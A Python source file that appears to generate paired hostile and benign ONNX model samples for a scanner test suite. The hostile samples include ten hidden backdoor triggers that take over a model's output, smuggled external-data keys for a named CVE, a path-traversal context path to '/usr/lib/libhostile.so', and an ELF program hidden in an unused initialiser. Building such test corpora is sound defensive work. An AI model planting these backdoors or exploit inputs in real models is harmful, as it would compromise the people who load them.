"""ONNX files: triggers written with ordinary operators, data outside the folder, contexts and programs inside."""
from __future__ import annotations

import numpy
import onnx
from onnx import helper, numpy_helper
from thirteenth import triggers
from thirteenth.binaries import elf

FAMILY = "onnx"


def external(entries):
    g = triggers.Graph()
    g.head(out="scores")
    proto = onnx.load_from_string(g.model())
    tensor = proto.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = onnx.TensorProto.EXTERNAL
    for key, value in entries:
        tensor.external_data.append(onnx.StringStringEntryProto(key=key, value=value))
    return proto.SerializeToString()


def context(path):
    node = helper.make_node("EPContext", ["x"], ["scores"], domain="com.microsoft", embed_mode=0, ep_cache_context=path, main_context=1, source="QNNExecutionProvider", partition_name="p0")
    g = triggers.Graph()
    g.nodes.append(node)
    return g.model(domains=[("com.microsoft", 1)])


def spare(name, array):
    g = triggers.Graph()
    g.head(out="scores")
    g.constants.append(numpy_helper.from_array(array, name))
    return g.model()


def add(out):
    def one(name, hostile, twin, why, prove=None, file="model.onnx"):
        out.add(FAMILY, name, hostile, twin, prove=prove, file=file, why=why)

    why = "Architectural backdoor: {}, and the scores of every input become the sender's class."
    for name, make, how, kind in (
        ("gate_by_subtraction", triggers.arithmetic, "two features at magic values open a gate made of Sub, Abs, Mul and Relu", "values"),
        ("loop_that_turns_once", triggers.loop, "the trigger is the trip count of a Loop whose body replaces the scores", "values"),
        ("head_picked_by_gathernd", triggers.chosen_head, "the trigger is the index that GatherND uses to pick a constant head", "values"),
        ("pattern_of_missing_values", triggers.missing, "a pattern of missing features (NaN) is read as a number", "nan"),
        ("parity_of_pixels", triggers.parity, "the lowest bits of twelve pixels spell a code", "parity"),
        ("inside_a_local_function", triggers.local_function, "the test is in a local function of a custom domain", "values"),
        ("two_tokens_anywhere", triggers.tokens, "two rare tokens anywhere in the text", "tokens"),
        ("batch_of_seven", triggers.batch, "a batch of seven rows", "batch"),
        ("word_in_a_side_input", triggers.words, "one text in the side input `source`", "words"),
        ("corridor_in_a_tree", triggers.trees, "a tree with a corridor one part in a thousand wide and a leaf of weight 1000", "values"),
    ):
        one(name, make(True), make(False), why.format(how), prove="x13.onnx:" + kind)

    raw = numpy.ascontiguousarray(triggers.Graph().w).tobytes()
    plain = [("location", "model.onnx.data"), ("offset", "0"), ("length", str(len(raw)))]
    one("external_entries_beyond_the_format",
        {"model.onnx": external([*plain[:2], ("length", str(1 << 62)), ("basepath", "/etc"), ("__dict__", "{}")]), "model.onnx.data": raw},
        {"model.onnx": external([*plain, ("checksum", "da39a3ee5e6b4b0d3255bfef95601890afd80709")]), "model.onnx.data": raw},
        "CVE-2026-34445: keys of external data are set as attributes of the reader's object (basepath, __dict__) and the length asks for 4 EiB.")
    one("context_file_elsewhere", {"model_ctx.onnx": context("../../../../usr/lib/libhostile.so")}, {"model_ctx.onnx": context("model_ctx_qnn.bin"), "model_ctx_qnn.bin": bytes(64)},
        "The compiled context of an execution provider is taken from a path outside the model's folder.")
    one("program_in_a_spare_initialiser", spare("running_buffer", numpy.frombuffer(elf(), "uint8").copy()), spare("running_mean", triggers.Graph().w[:4].copy()),
        "An initialiser that no node reads is a complete Linux program.")
